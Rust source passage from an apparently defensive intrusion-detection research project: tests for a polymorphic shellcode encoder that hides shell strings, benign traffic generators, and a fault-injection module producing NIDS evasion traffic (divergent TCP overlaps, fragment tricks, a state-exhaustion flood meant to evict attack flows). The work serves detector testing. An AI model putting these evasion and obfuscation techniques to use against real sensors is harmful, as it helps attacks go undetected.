        let rate = xor as f64 / n as f64;
        assert!((rate - 0.68).abs() < 0.06, "rate {rate}");
    }

    #[test]
    fn instances_are_polymorphic() {
        let engine = AdmMutate::default();
        let payload = inner();
        let mut rng = StdRng::seed_from_u64(7);
        let a = engine.generate_family(&mut rng, &payload, DecoderFamily::Xor);
        let b = engine.generate_family(&mut rng, &payload, DecoderFamily::Xor);
        assert_ne!(a, b, "two generations must differ");
        // and the plaintext payload never appears verbatim
        assert!(
            !a.windows(8).any(|w| payload.windows(8).next() == Some(w)),
            "payload prefix leaked in cleartext"
        );
    }

    #[test]
    fn encoded_payload_hides_shell_strings() {
        let engine = AdmMutate::default();
        let payload = inner();
        for seed in 0..20u64 {
            let mut rng = StdRng::seed_from_u64(seed);
            let (bytes, _) = engine.generate(&mut rng, &payload);
            assert!(
                !bytes.windows(4).any(|w| w == b"//sh" || w == b"/bin"),
                "seed {seed}: shell strings visible to pattern matching"
            );
        }
    }
}
