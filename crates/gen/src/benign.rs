//! Benign traffic corpus generation for the §5.4 false-positive study.
//!
//! "Most of the packets in this trace are legitimate web traffic" — we
//! synthesize web requests and responses, mail, DNS, and (beyond the
//! paper's corpus) high-entropy downloads that *look* binary, plus the
//! Crypkey/ASProtect-style copy-protected executables the paper's §3
//! discussion predicts would false-positive a host-based scanner.

use crate::asm::{Asm, R};
use rand::Rng;

const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/news",
    "/about.html",
    "/images/logo.gif",
    "/search",
    "/products/list",
    "/cart",
    "/login",
    "/styles/main.css",
    "/js/app.js",
    "/blog/2006/01/entry",
    "/downloads",
    "/docs/manual.pdf",
    "/favicon.ico",
];

const HOSTS: &[&str] = &[
    "www.example.com",
    "mail.campus.edu",
    "news.example.org",
    "cdn.static.net",
    "intranet.corp.local",
    "mirror.distro.org",
];

const WORDS: &[&str] = &[
    "the",
    "quick",
    "brown",
    "fox",
    "network",
    "intrusion",
    "detection",
    "semantics",
    "lehigh",
    "university",
    "internet",
    "traffic",
    "analysis",
    "report",
    "weekly",
    "meeting",
    "schedule",
    "download",
    "update",
    "release",
    "notes",
    "archive",
];

fn words<G: Rng>(rng: &mut G, n: usize) -> String {
    (0..n)
        .map(|_| WORDS[rng.gen_range(0..WORDS.len())])
        .collect::<Vec<_>>()
        .join(" ")
}

/// A benign HTTP GET request.
pub fn http_get<G: Rng>(rng: &mut G) -> Vec<u8> {
    let path = PATHS[rng.gen_range(0..PATHS.len())];
    let host = HOSTS[rng.gen_range(0..HOSTS.len())];
    let mut req = format!("GET {path}");
    if rng.gen_bool(0.3) {
        req.push_str(&format!(
            "?q={}&page={}",
            WORDS[rng.gen_range(0..WORDS.len())],
            rng.gen_range(1..20)
        ));
    }
    req.push_str(" HTTP/1.1\r\n");
    req.push_str(&format!("Host: {host}\r\n"));
    req.push_str("User-Agent: Mozilla/4.0 (compatible; MSIE 6.0)\r\n");
    req.push_str("Accept: */*\r\nConnection: keep-alive\r\n\r\n");
    req.into_bytes()
}

/// A benign HTML response body (text).
pub fn http_response<G: Rng>(rng: &mut G) -> Vec<u8> {
    let body = format!(
        "<html><head><title>{}</title></head><body><h1>{}</h1><p>{}</p></body></html>",
        words(rng, 3),
        words(rng, 5),
        {
            let n = rng.gen_range(30..120);
            words(rng, n)
        },
    );
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{}",
        body.len(),
        body
    )
    .into_bytes()
}

/// A POST with a form body.
pub fn http_post<G: Rng>(rng: &mut G) -> Vec<u8> {
    let body = format!(
        "name={}&comment={}",
        WORDS[rng.gen_range(0..WORDS.len())],
        {
            let n = rng.gen_range(5..30);
            words(rng, n).replace(' ', "+")
        },
    );
    format!(
        "POST /submit HTTP/1.0\r\nHost: {}\r\nContent-Length: {}\r\n\r\n{}",
        HOSTS[rng.gen_range(0..HOSTS.len())],
        body.len(),
        body
    )
    .into_bytes()
}

/// An SMTP exchange fragment (client side).
pub fn smtp_session<G: Rng>(rng: &mut G) -> Vec<u8> {
    format!(
        "HELO {}\r\nMAIL FROM:<alice@{}>\r\nRCPT TO:<bob@{}>\r\nDATA\r\nSubject: {}\r\n\r\n{}\r\n.\r\n",
        HOSTS[rng.gen_range(0..HOSTS.len())],
        HOSTS[rng.gen_range(0..HOSTS.len())],
        HOSTS[rng.gen_range(0..HOSTS.len())],
        words(rng, 4),
        {
            let n = rng.gen_range(20..80);
            words(rng, n)
        },
    )
    .into_bytes()
}

/// A DNS query payload (UDP).
pub fn dns_query<G: Rng>(rng: &mut G) -> Vec<u8> {
    let mut q = Vec::new();
    q.extend_from_slice(&rng.gen::<u16>().to_be_bytes()); // id
    q.extend_from_slice(&[0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]);
    let host = HOSTS[rng.gen_range(0..HOSTS.len())];
    for label in host.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0x00, 0x00, 0x01, 0x00, 0x01]); // A IN
    q
}

/// A high-entropy download chunk (compressed image / archive stand-in).
/// Deliberately *looks* binary so it exercises the expensive pipeline
/// stages during the FP study.
pub fn binary_download<G: Rng>(rng: &mut G, len: usize) -> Vec<u8> {
    (0..len).map(|_| rng.gen()).collect()
}

/// A Crypkey/ASProtect-style copy-protected executable fragment: benign
/// software whose loader stub contains a *genuine decryption loop*. The
/// paper (§3) points out a host-based scanner flags these; the NIDS
/// classifier keeps them out of the analysis path because they arrive as
/// ordinary downloads, not as exploit traffic.
pub fn copy_protected_binary<G: Rng>(rng: &mut G, body_len: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(body_len + 64);
    // PE-ish header noise
    out.extend_from_slice(b"MZ\x90\x00\x03\x00\x00\x00PE\x00\x00");
    // the protection stub: a real xor decryption loop
    let key: u8 = rng.gen_range(1..=255);
    let mut a = Asm::new();
    a.mov_imm(R::Esi, 0x0040_1000);
    a.mov_imm(R::Ecx, body_len as u32);
    let body = a.here();
    a.xor_mem_imm8(R::Esi, key);
    a.inc(R::Esi);
    a.loop_to(body);
    a.raw(&[0xc3]);
    out.extend_from_slice(&a.finish());
    // "encrypted" program body
    out.extend((0..body_len).map(|_| rng.gen::<u8>()));
    out
}

/// One benign application payload of a random kind (TCP-side mix).
pub fn random_payload<G: Rng>(rng: &mut G) -> Vec<u8> {
    match rng.gen_range(0..6) {
        0 | 1 => http_get(rng),
        2 => http_response(rng),
        3 => http_post(rng),
        4 => smtp_session(rng),
        _ => {
            let n = rng.gen_range(256..2048);
            binary_download(rng, n)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_extract::BinaryExtractor;
    use snids_semantic::Analyzer;

    #[test]
    fn text_payloads_are_never_extracted() {
        let mut rng = StdRng::seed_from_u64(1);
        let ex = BinaryExtractor::default();
        for _ in 0..50 {
            for payload in [
                http_get(&mut rng),
                http_post(&mut rng),
                smtp_session(&mut rng),
            ] {
                assert!(
                    ex.extract(&payload).is_empty(),
                    "extracted from {:?}",
                    String::from_utf8_lossy(&payload[..40.min(payload.len())])
                );
            }
        }
    }

    #[test]
    fn benign_corpus_produces_no_template_matches() {
        // The in-crate miniature of the §5.4 experiment.
        let mut rng = StdRng::seed_from_u64(2);
        let ex = BinaryExtractor::default();
        let analyzer = Analyzer::default();
        for _ in 0..100 {
            let payload = random_payload(&mut rng);
            for frame in ex.extract(&payload) {
                let ms = analyzer.analyze(&frame.data);
                assert!(ms.is_empty(), "false positive on benign frame: {ms:?}");
            }
        }
    }

    #[test]
    fn copy_protected_binary_contains_a_real_decoder() {
        // This is the A1 ablation's premise: a host-style scan of the
        // downloaded file DOES find a decryption loop.
        let mut rng = StdRng::seed_from_u64(3);
        let blob = copy_protected_binary(&mut rng, 512);
        let ms = Analyzer::default().analyze(&blob);
        assert!(
            ms.iter().any(|m| m.template.starts_with("xor-decrypt")),
            "the protection stub must look like a decoder: {ms:?}"
        );
    }

    #[test]
    fn dns_queries_are_wellformed_enough() {
        let mut rng = StdRng::seed_from_u64(4);
        let q = dns_query(&mut rng);
        assert!(q.len() > 16);
        assert_eq!(q[2], 0x01); // RD flag byte
        assert!(q.ends_with(&[0x00, 0x01, 0x00, 0x01]) || q.ends_with(&[0x00, 0x01]));
    }
}
