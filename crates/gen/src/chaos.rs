//! Deterministic fault injection for robustness testing.
//!
//! The paper's evaluation assumes well-formed captures; a deployed sensor
//! sees the opposite — damaged files, hostile senders, evasion traffic.
//! This module takes a clean packet capture and seeds it with the faults a
//! sensor must survive:
//!
//! * **protocol-level** (applied to packets): corrupted checksums, missing
//!   / duplicated / conflicting-overlap IP fragments, reordered and
//!   conflicting-retransmit TCP segments, and a SYN-flood of throwaway
//!   flows to pressure the flow table;
//! * **byte-level** (applied to the serialized pcap): bit flips inside
//!   frame data, garbage records with valid framing, and — at the tail,
//!   where they end the readable stream — a truncated record or a record
//!   header with a hostile `incl_len`.
//!
//! Everything is driven by a caller-supplied RNG, so a fault pattern is
//! reproducible from a seed. The [`ChaosLog`] records which source
//! addresses had *destructive* faults applied to their traffic, letting a
//! test assert that every untouched attack source is still detected.

use rand::{Rng, RngCore};
use snids_flow::defrag::fragment_packet;
use snids_packet::{Packet, PacketBuilder, PcapWriter, ETHERNET_HEADER_LEN};
use std::collections::HashSet;
use std::net::Ipv4Addr;

/// Fault-injection intensity and toggles.
#[derive(Debug, Clone)]
pub struct ChaosConfig {
    /// Base per-packet / per-record fault probability in `[0, 1]`.
    pub rate: f64,
    /// Throwaway SYN-flood flows appended to pressure the flow table.
    pub flood_flows: usize,
    /// Append a record whose bytes end early (stream truncation).
    pub truncate_tail: bool,
    /// Append a record header claiming a hostile `incl_len`.
    pub bogus_incl_len: bool,
}

impl ChaosConfig {
    /// A config with the given base rate and all fault families enabled.
    pub fn with_rate(rate: f64) -> Self {
        ChaosConfig {
            rate: rate.clamp(0.0, 1.0),
            flood_flows: 0,
            truncate_tail: true,
            bogus_incl_len: true,
        }
    }
}

impl Default for ChaosConfig {
    fn default() -> Self {
        ChaosConfig::with_rate(0.05)
    }
}

/// What the injector did, for assertions in tests.
#[derive(Debug, Clone, Default)]
pub struct ChaosLog {
    /// Protocol-level faults applied (any kind).
    pub protocol_faults: u64,
    /// Byte-level faults applied to the serialized capture.
    pub byte_faults: u64,
    /// Flood packets appended.
    pub flood_packets: u64,
    /// Source addresses whose traffic had a *destructive* fault applied
    /// (checksum corruption, dropped fragment, bit flip) — detection for
    /// these sources may legitimately be lost. Duplicates, reorders and
    /// conflicting overlaps are non-destructive by design (first-copy-wins
    /// reassembly keeps the original data) and are not recorded here.
    pub touched_sources: HashSet<Ipv4Addr>,
    /// TCP desync faults applied by [`desync_packets`] (any kind,
    /// including the benign reorder/stale kinds).
    pub desync_faults: u64,
    /// Payload bytes injected by [`desync_packets`] whose copy diverges
    /// from the original stream content. An upper bound on the engine's
    /// `overlap_conflict_bytes` for the capture (stale injections are
    /// rejected at the reassembly window and never reach the ledger).
    pub divergent_overlap_bytes: u64,
    /// Sources whose streams had *divergent* overlaps injected. Whether
    /// detection survives for these depends on the reassembly policy;
    /// sources outside this set must always still be detected.
    pub divergent_sources: HashSet<Ipv4Addr>,
    /// Packets appended by [`exhaustion_flood`]'s flow flood (honeypot
    /// probes, SYNs and data segments).
    pub exhaustion_flood_packets: u64,
    /// Fragment packets appended by [`exhaustion_flood`]'s incomplete
    /// datagrams.
    pub exhaustion_frag_packets: u64,
    /// Payload bytes the exhaustion flood parks in sensor state
    /// (reassembly streams plus pending fragments). Sizing a memory
    /// budget well below this guarantees the governor is pressured.
    pub exhaustion_bytes: u64,
    /// Sources invented by [`exhaustion_flood`]. Detection assertions
    /// must not credit alerts from these, and a governor should be
    /// willing to shed them.
    pub flood_sources: HashSet<Ipv4Addr>,
}

impl ChaosLog {
    fn touch(&mut self, packet: &Packet) {
        if let Some(ip) = packet.ip() {
            self.touched_sources.insert(ip.src);
        }
    }
}

/// Apply protocol-level faults to a packet sequence.
pub fn chaos_packets<G: RngCore>(
    rng: &mut G,
    packets: &[Packet],
    cfg: &ChaosConfig,
    log: &mut ChaosLog,
) -> Vec<Packet> {
    let mut out: Vec<Packet> = Vec::with_capacity(packets.len() + cfg.flood_flows);
    // A reorder fault holds one packet back and emits it after its
    // successor.
    let mut held: Option<Packet> = None;

    for p in packets {
        if let Some(h) = held.take() {
            out.push(p.clone());
            out.push(h);
            continue;
        }
        if !rng.gen_bool(cfg.rate) {
            out.push(p.clone());
            continue;
        }
        log.protocol_faults += 1;
        match rng.gen_range(0..5u8) {
            0 => corrupt_checksum(rng, p, log, &mut out),
            1 => fragment_fault(rng, p, log, &mut out),
            2 => {
                // Exact retransmission: harmless duplicate.
                out.push(p.clone());
                out.push(p.clone());
            }
            3 => conflicting_retransmit(rng, p, &mut out),
            _ => {
                // Reorder: this packet arrives after the next one.
                held = Some(p.clone());
            }
        }
    }
    if let Some(h) = held {
        out.push(h);
    }

    // SYN-flood: unique throwaway sources against destinations already in
    // the capture, spread across the capture's time span.
    let dsts: Vec<Ipv4Addr> = {
        let mut v: Vec<Ipv4Addr> = packets
            .iter()
            .filter_map(|p| p.ip().map(|h| h.dst))
            .collect();
        v.sort_unstable();
        v.dedup();
        v
    };
    let last_ts = packets.last().map_or(0, |p| p.ts_micros);
    if !dsts.is_empty() {
        for i in 0..cfg.flood_flows {
            let src = Ipv4Addr::new(203, 0, rng.gen_range(113..=120), rng.gen_range(1..=254));
            let dst = dsts[rng.gen_range(0..dsts.len())];
            let syn = PacketBuilder::new(src, dst)
                .at(last_ts + 10 + i as u64)
                .identification(rng.gen())
                .tcp_syn(rng.gen_range(1025..65000), 80, rng.gen());
            if let Ok(syn) = syn {
                out.push(syn);
                log.flood_packets += 1;
            }
        }
    }
    out
}

/// Flip a byte inside the transport region so the IPv4 or TCP checksum no
/// longer verifies; the pipeline must drop and account the packet.
fn corrupt_checksum<G: RngCore>(
    rng: &mut G,
    p: &Packet,
    log: &mut ChaosLog,
    out: &mut Vec<Packet>,
) {
    let Some(ip) = p.ip() else {
        out.push(p.clone());
        return;
    };
    let mut raw = p.raw().to_vec();
    // Anywhere in the IP packet past the version byte will desynchronise a
    // checksum (header bytes break the IP sum, payload bytes the TCP sum).
    let lo = ETHERNET_HEADER_LEN + 2;
    let hi = ETHERNET_HEADER_LEN + ip.total_len;
    let at = rng.gen_range(lo..hi);
    raw[at] ^= 1 << rng.gen_range(0..8u8);
    match Packet::decode(p.ts_micros, raw) {
        Ok(bad) => {
            log.touch(p);
            out.push(bad);
        }
        // The flip broke framing instead; keep the original.
        Err(_) => out.push(p.clone()),
    }
}

/// Split a packet into fragments and then drop, duplicate, or
/// conflictingly-duplicate one of them.
fn fragment_fault<G: RngCore>(rng: &mut G, p: &Packet, log: &mut ChaosLog, out: &mut Vec<Packet>) {
    let already_fragmented = p
        .ip()
        .map(|h| h.more_fragments || h.fragment_offset != 0)
        .unwrap_or(false);
    let mut frags = if already_fragmented {
        vec![p.clone()]
    } else {
        fragment_packet(p, 256)
    };
    if frags.len() < 2 {
        out.push(p.clone());
        return;
    }
    match rng.gen_range(0..3u8) {
        0 => {
            // Missing fragment: the datagram never completes.
            let victim = rng.gen_range(0..frags.len());
            frags.remove(victim);
            log.touch(p);
        }
        1 => {
            // Exact duplicate fragment.
            let i = rng.gen_range(0..frags.len());
            let dup = frags[i].clone();
            frags.insert(i + 1, dup);
        }
        _ => {
            // Conflicting overlap: a later copy of one fragment carries
            // different payload bytes. First-copy-wins reassembly must
            // keep the original data. (Fragment payload bytes are outside
            // the IP header checksum, and fragments carry no verifiable
            // TCP checksum, so the copy is not dropped earlier.)
            let i = rng.gen_range(0..frags.len());
            let mut raw = frags[i].raw().to_vec();
            if raw.len() > ETHERNET_HEADER_LEN + 20 {
                let at = rng.gen_range(ETHERNET_HEADER_LEN + 20..raw.len());
                raw[at] ^= 0x5a;
                if let Ok(dup) = Packet::decode(frags[i].ts_micros + 1, raw) {
                    frags.insert(i + 1, dup);
                }
            }
        }
    }
    out.append(&mut frags);
}

/// Retransmit a TCP segment with different payload bytes but valid
/// checksums; first-copy-wins stream reassembly must keep the original.
fn conflicting_retransmit<G: RngCore>(rng: &mut G, p: &Packet, out: &mut Vec<Packet>) {
    out.push(p.clone());
    let (Some(ip), Some(tcp)) = (p.ip(), p.tcp()) else {
        return;
    };
    let payload = p.payload();
    if payload.is_empty() {
        return;
    }
    let mut data = payload.to_vec();
    let at = rng.gen_range(0..data.len());
    data[at] ^= 0x5a;
    let retx = PacketBuilder::new(ip.src, ip.dst)
        .at(p.ts_micros + 1)
        .identification(ip.identification.wrapping_add(1))
        .tcp(
            tcp.src_port,
            tcp.dst_port,
            tcp.seq,
            tcp.ack,
            tcp.flags,
            &data,
        );
    if let Ok(retx) = retx {
        out.push(retx);
    }
}

/// TCP desync fault intensity for [`desync_packets`].
#[derive(Debug, Clone)]
pub struct DesyncConfig {
    /// Per data-bearing-segment fault probability in `[0, 1]`.
    pub rate: f64,
}

impl DesyncConfig {
    /// A config with the given per-segment fault rate.
    pub fn with_rate(rate: f64) -> Self {
        DesyncConfig {
            rate: rate.clamp(0.0, 1.0),
        }
    }
}

impl Default for DesyncConfig {
    fn default() -> Self {
        DesyncConfig::with_rate(0.1)
    }
}

/// Divergent copy of a byte range: always differs from the original in
/// every position (adding 0x55 mod 256 never maps a byte to itself).
fn garbage(data: &[u8]) -> Vec<u8> {
    data.iter().map(|b| b.wrapping_add(0x55)).collect()
}

/// Inject TCP desynchronization faults: overlapping retransmits whose
/// copies *disagree*, segment splits/reorders, and stale below-window
/// segments. All injected packets carry valid checksums — they survive
/// validation and reach reassembly, which must resolve each overlap per
/// its configured [`OverlapPolicy`](snids_flow::OverlapPolicy).
///
/// Six kinds, chosen uniformly per faulted segment, with deliberately
/// different per-policy blast radii:
///
/// | kind | shape                              | corrupts under            |
/// |------|------------------------------------|---------------------------|
/// | 0    | same-start garbage copy *after*    | last-wins, linux-like     |
/// | 1    | garbage tail-half copy *after*     | last-wins                 |
/// | 2    | same-start garbage copy *before*   | first-wins, bsd-like      |
/// | 3    | split in two, halves swapped       | none (reorder only)       |
/// | 4    | stale far-below-window garbage     | none (window-rejected)    |
/// | 5    | under-cut garbage copy *after*     | last-wins, bsd, linux     |
///
/// Because the kinds split the policies differently, sweeping the fault
/// rate yields a *distinct* detection-degradation curve per policy — the
/// signal the desync bench plots.
pub fn desync_packets<G: RngCore>(
    rng: &mut G,
    packets: &[Packet],
    cfg: &DesyncConfig,
    log: &mut ChaosLog,
) -> Vec<Packet> {
    let mut out: Vec<Packet> = Vec::with_capacity(packets.len() + packets.len() / 2);
    for p in packets {
        let (Some(ip), Some(tcp)) = (p.ip(), p.tcp()) else {
            out.push(p.clone());
            continue;
        };
        let payload = p.payload();
        // SYNs and tiny segments pass through: the ISN anchor must stay
        // intact and a split needs at least two bytes per half.
        if tcp.flags.syn() || payload.len() < 4 || !rng.gen_bool(cfg.rate) {
            out.push(p.clone());
            continue;
        }
        log.desync_faults += 1;
        let ident = ip.identification.wrapping_add(0x4000);
        let inject = |seq: u32, data: &[u8], ts: u64, out: &mut Vec<Packet>| {
            let seg = PacketBuilder::new(ip.src, ip.dst)
                .at(ts)
                .identification(ident)
                .tcp(tcp.src_port, tcp.dst_port, seq, tcp.ack, tcp.flags, data);
            if let Ok(seg) = seg {
                out.push(seg);
            }
        };
        match rng.gen_range(0..6u8) {
            0 => {
                // Garbage retransmit of the whole segment, arriving after.
                out.push(p.clone());
                inject(tcp.seq, &garbage(payload), p.ts_micros + 1, &mut out);
                log.divergent_overlap_bytes += payload.len() as u64;
                log.divergent_sources.insert(ip.src);
            }
            1 => {
                // Garbage copy of the tail half, arriving after: starts
                // mid-segment, so only a pure last-wins stack believes it.
                let half = payload.len() / 2;
                out.push(p.clone());
                inject(
                    tcp.seq.wrapping_add(half as u32),
                    &garbage(&payload[half..]),
                    p.ts_micros + 1,
                    &mut out,
                );
                log.divergent_overlap_bytes += (payload.len() - half) as u64;
                log.divergent_sources.insert(ip.src);
            }
            2 => {
                // Garbage copy arriving *before* the real segment: stacks
                // that trust the first (or the earlier-started) copy keep
                // the garbage.
                inject(tcp.seq, &garbage(payload), p.ts_micros, &mut out);
                out.push(p.clone());
                log.divergent_overlap_bytes += payload.len() as u64;
                log.divergent_sources.insert(ip.src);
            }
            3 => {
                // Split and swap: second half arrives first. Pure
                // reordering — every policy reassembles the same bytes.
                let half = payload.len() / 2;
                inject(
                    tcp.seq.wrapping_add(half as u32),
                    &payload[half..],
                    p.ts_micros,
                    &mut out,
                );
                inject(tcp.seq, &payload[..half], p.ts_micros + 1, &mut out);
            }
            4 => {
                // Stale garbage far below the receive window (an old
                // "ghost" segment). The window check rejects it before any
                // overlap resolution; not logged as divergent.
                inject(
                    tcp.seq.wrapping_sub(0x4000_0000),
                    &garbage(payload),
                    p.ts_micros,
                    &mut out,
                );
                out.push(p.clone());
            }
            _ => {
                // Under-cut: garbage starting shortly *before* this
                // segment, arriving after it, overrunning its head.
                // Earlier-start-wins stacks (BSD, Linux) prefer it.
                let cut = payload.len().min(64);
                let under = 1 + (u64::from(rng.next_u32()) % 32) as usize;
                let mut g = vec![0x55u8; under];
                g.extend_from_slice(&garbage(&payload[..cut]));
                out.push(p.clone());
                inject(
                    tcp.seq.wrapping_sub(under as u32),
                    &g,
                    p.ts_micros + 1,
                    &mut out,
                );
                log.divergent_overlap_bytes += g.len() as u64;
                log.divergent_sources.insert(ip.src);
            }
        }
    }
    out
}

/// Serialize packets to pcap bytes with byte-level faults layered on top.
///
/// Faults that desynchronise the record stream (truncation, hostile
/// `incl_len`) are appended at the tail only, so every real record stays
/// readable and the capture remains a meaningful end-to-end input. Bit
/// flips and garbage records keep record framing intact and may land
/// anywhere.
pub fn chaos_pcap<G: RngCore>(
    rng: &mut G,
    packets: &[Packet],
    cfg: &ChaosConfig,
) -> (Vec<u8>, ChaosLog) {
    let mut log = ChaosLog::default();
    let mutated = chaos_packets(rng, packets, cfg, &mut log);

    // Global header via the real writer, then hand-rolled records so the
    // byte offsets of each frame are known.
    let mut buf = PcapWriter::new(Vec::new())
        .and_then(PcapWriter::finish)
        .unwrap_or_default();
    let mut regions: Vec<(usize, usize, Option<Ipv4Addr>)> = Vec::with_capacity(mutated.len());
    for p in &mutated {
        let frame = p.raw();
        write_record_header(&mut buf, p.ts_micros, frame.len() as u32);
        regions.push((buf.len(), frame.len(), p.ip().map(|h| h.src)));
        buf.extend_from_slice(frame);

        // Garbage record with valid framing: reader must attribute it as
        // a record (usually undecodable) and keep going.
        if rng.gen_bool(cfg.rate * 0.25) {
            let len = rng.gen_range(4..64usize);
            write_record_header(&mut buf, p.ts_micros + 1, len as u32);
            let mut junk = vec![0u8; len];
            rng.fill_bytes(&mut junk);
            buf.extend_from_slice(&junk);
            log.byte_faults += 1;
        }
    }

    // Bit flips inside frame data: framing stays intact, the frame decodes
    // differently (or not at all).
    for (start, len, src) in &regions {
        if *len > 0 && rng.gen_bool(cfg.rate * 0.5) {
            let at = start + rng.gen_range(0..*len);
            buf[at] ^= 1 << rng.gen_range(0..8u8);
            if let Some(src) = src {
                log.touched_sources.insert(*src);
            }
            log.byte_faults += 1;
        }
    }

    // Tail faults end the readable stream, so at most one is observable.
    let tail_bogus = match (cfg.bogus_incl_len, cfg.truncate_tail) {
        (true, true) => rng.gen_bool(0.5),
        (bogus, _) => bogus,
    };
    if tail_bogus {
        // Hostile incl_len: claims ~4 GiB; the reader must refuse it
        // without allocating.
        write_record_header(&mut buf, 0, 0xFFFF_FF00);
        buf.extend_from_slice(&[0u8; 8]);
        log.byte_faults += 1;
    } else if cfg.truncate_tail {
        // Record header promising more bytes than the file has left.
        write_record_header(&mut buf, 0, 512);
        buf.extend_from_slice(&[0u8; 37]);
        log.byte_faults += 1;
    }
    (buf, log)
}

/// State-exhaustion flood intensity for [`exhaustion_flood`].
///
/// Unlike the throwaway SYN flood in [`ChaosConfig`], every source here
/// first probes a honeypot so the classifier marks it suspicious — the
/// flood targets the *semantic* pipeline's buffered state (reassembly
/// streams, shadow copies, pending fragments), not just the flow count.
#[derive(Debug, Clone)]
pub struct ExhaustionConfig {
    /// Suspicious flood flows, each parking [`flood_payload`] stream
    /// bytes in the reassembler.
    ///
    /// [`flood_payload`]: ExhaustionConfig::flood_payload
    pub flood_flows: usize,
    /// Stream payload bytes parked per flood flow.
    pub flood_payload: usize,
    /// Never-completing fragmented datagrams parking bytes in the
    /// defragmenter (the last fragment is withheld).
    pub frag_datagrams: usize,
}

impl Default for ExhaustionConfig {
    fn default() -> Self {
        ExhaustionConfig {
            flood_flows: 512,
            flood_payload: 1024,
            frag_datagrams: 64,
        }
    }
}

/// Printable filler for flood streams: buffers state without ever
/// resembling executable content, so flood flows can never alert.
fn flood_filler(salt: usize, len: usize) -> Vec<u8> {
    const TEXT: &[u8] = b"GET /state-exhaustion-flood HTTP/1.0\r\nHost: overload\r\n\r\n";
    (0..len).map(|j| TEXT[(salt + j) % TEXT.len()]).collect()
}

/// Append a state-exhaustion flood after a capture: the eviction-evasion
/// adversary shape. Attacks planted in `packets` go cold behind an idle
/// gap; then a horde of fresh suspicious sources (each probes `honeypot`
/// once, so classification tracks them) parks stream bytes and
/// incomplete fragments, trying to push the planted flows out of the
/// sensor's bounded state before end-of-run analysis. A sensor that
/// discards evicted state unanalyzed loses the planted detections; one
/// that analyzes victims on the way out does not.
///
/// Returns the composed capture; flood accounting lands in `log`
/// (`exhaustion_*` fields and [`ChaosLog::flood_sources`]).
pub fn exhaustion_flood<G: RngCore>(
    rng: &mut G,
    packets: &[Packet],
    honeypot: Ipv4Addr,
    cfg: &ExhaustionConfig,
    log: &mut ChaosLog,
) -> Vec<Packet> {
    let mut out = packets.to_vec();
    // Flood destinations: reuse the capture's own non-honeypot targets so
    // the traffic blends in; fall back to the honeypot itself.
    let mut dsts: Vec<Ipv4Addr> = packets
        .iter()
        .filter_map(|p| p.ip().map(|h| h.dst))
        .filter(|d| *d != honeypot)
        .collect();
    dsts.sort_unstable();
    dsts.dedup();
    if dsts.is_empty() {
        dsts.push(honeypot);
    }
    // Idle gap: every planted flow is colder than every flood flow, so a
    // pure-LRU victim policy evicts the planted state first.
    let mut ts = packets.last().map_or(0, |p| p.ts_micros) + 1_000_000;

    for i in 0..cfg.flood_flows {
        // CGNAT space (100.64.0.0/10): ~4M unique sources, disjoint from
        // the address plans and the SYN-flood's 203.0.113.0/24.
        let src = Ipv4Addr::new(
            100,
            64 + ((i >> 16) & 0x3f) as u8,
            ((i >> 8) & 0xff) as u8,
            (i & 0xff) as u8,
        );
        log.flood_sources.insert(src);
        let sport = 1024 + (i % 60_000) as u16;
        let isn: u32 = rng.gen();
        let probe = PacketBuilder::new(src, honeypot)
            .at(ts)
            .identification(rng.gen())
            .tcp_syn(sport, 80, isn);
        let dst = dsts[i % dsts.len()];
        let b = PacketBuilder::new(src, dst);
        let syn = b
            .clone()
            .at(ts + 1)
            .identification(rng.gen())
            .tcp_syn(sport, 80, isn);
        let data = b.at(ts + 2).identification(rng.gen()).tcp(
            sport,
            80,
            isn.wrapping_add(1),
            1,
            snids_packet::TcpFlags::ACK | snids_packet::TcpFlags::PSH,
            &flood_filler(i, cfg.flood_payload),
        );
        if let (Ok(probe), Ok(syn), Ok(data)) = (probe, syn, data) {
            out.push(probe);
            out.push(syn);
            out.push(data);
            log.exhaustion_flood_packets += 3;
            log.exhaustion_bytes += cfg.flood_payload as u64;
        }
        ts += 10;
    }

    for j in 0..cfg.frag_datagrams {
        let src = Ipv4Addr::new(
            100,
            104 + ((j >> 16) & 0x17) as u8,
            ((j >> 8) & 0xff) as u8,
            (j & 0xff) as u8,
        );
        log.flood_sources.insert(src);
        let sport = 1024 + (j % 60_000) as u16;
        let probe = PacketBuilder::new(src, honeypot)
            .at(ts)
            .identification(rng.gen())
            .tcp_syn(sport, 80, rng.gen());
        let Ok(probe) = probe else { continue };
        let whole = PacketBuilder::new(src, dsts[j % dsts.len()])
            .at(ts + 1)
            .identification(rng.gen())
            .tcp(
                sport,
                80,
                rng.gen(),
                0,
                snids_packet::TcpFlags::ACK,
                &flood_filler(j.wrapping_mul(7), 1536),
            );
        let Ok(whole) = whole else { continue };
        let mut frags = fragment_packet(&whole, 512);
        if frags.len() < 2 {
            continue;
        }
        // Withhold the final fragment: the datagram can never complete
        // and its pieces sit in the defragmenter until expiry or shed.
        frags.pop();
        out.push(probe);
        log.exhaustion_flood_packets += 1;
        for f in frags {
            log.exhaustion_bytes += f.payload().len() as u64;
            log.exhaustion_frag_packets += 1;
            out.push(f);
        }
        ts += 10;
    }
    out
}

fn write_record_header(buf: &mut Vec<u8>, ts_micros: u64, incl_len: u32) {
    buf.extend_from_slice(&((ts_micros / 1_000_000) as u32).to_le_bytes());
    buf.extend_from_slice(&((ts_micros % 1_000_000) as u32).to_le_bytes());
    buf.extend_from_slice(&incl_len.to_le_bytes());
    buf.extend_from_slice(&incl_len.to_le_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traces::{codered_capture, AddressPlan};
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use snids_packet::PcapReader;
    use std::io::Cursor;

    fn capture() -> Vec<Packet> {
        let mut rng = StdRng::seed_from_u64(11);
        codered_capture(&mut rng, &AddressPlan::default(), 400, 2).0
    }

    #[test]
    fn same_seed_same_bytes() {
        let pkts = capture();
        let cfg = ChaosConfig::with_rate(0.2);
        let (a, la) = chaos_pcap(&mut StdRng::seed_from_u64(3), &pkts, &cfg);
